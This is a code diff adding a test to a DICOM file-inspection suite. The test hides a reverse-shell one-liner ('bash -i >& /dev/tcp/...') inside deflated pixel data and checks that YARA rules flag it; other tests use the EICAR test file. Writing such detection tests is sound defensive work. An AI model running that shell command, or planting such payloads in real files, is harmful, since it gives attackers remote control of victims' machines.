@@ -6,6 +6,7 @@ from pathlib import Path
 
 import pytest
 
+from leadglass.dicom.uids import DEFLATED
 from leadglass.errors import NotAvailable, UsageError
 from leadglass.inspection.clamav import Clamd
 from leadglass.inspection.engines import Engines
@@ -13,8 +14,8 @@ from leadglass.inspection.files import FileInspector, FileReport
 from leadglass.inspection.reasons import Reason
 from leadglass.inspection.verdict import VerdictKind
 from leadglass.inspection.yara import RuleSet
-from tests.hostile.case import private, whole
-from tests.hostile.samples import EICAR_FILE
+from tests.hostile.case import clean, encode, part10, private, whole
+from tests.hostile.samples import EICAR_FILE, deflated
 from tests.inspection.clamd import MARKER, SIGNATURE, STREAM_LIMIT, clamd
 
 
@@ -66,6 +67,13 @@ def test_own_rules() -> None:
 def test_a_match_across_a_block_is_found_once() -> None:
     report = inspect(whole(private(bytes(1024 * 1024 - 900) + EICAR_FILE)), RuleSet())
     assert details(report, Reason.TEST_VIRUS).count("content:eicar") == 1
+
+
+def test_rules_see_what_is_deflated() -> None:
+    shell = b"<?xml version='1.0'?> bash -i >& /dev/tcp/192.0.2.1/99".ljust(2_000_000)
+    body = encode(clean() | {0x00104000: (b"LT", b"nothing"), 0x7FE10010: (b"OB", bytes(2_000_000) + shell)})
+    report = inspect(part10(deflated(body), syntax=DEFLATED), RuleSet())
+    assert details(report, Reason.RULE) == ["content:reverse_shell"]
 
 
 def test_rules_of_the_operator(tmp_path: Path) -> None:
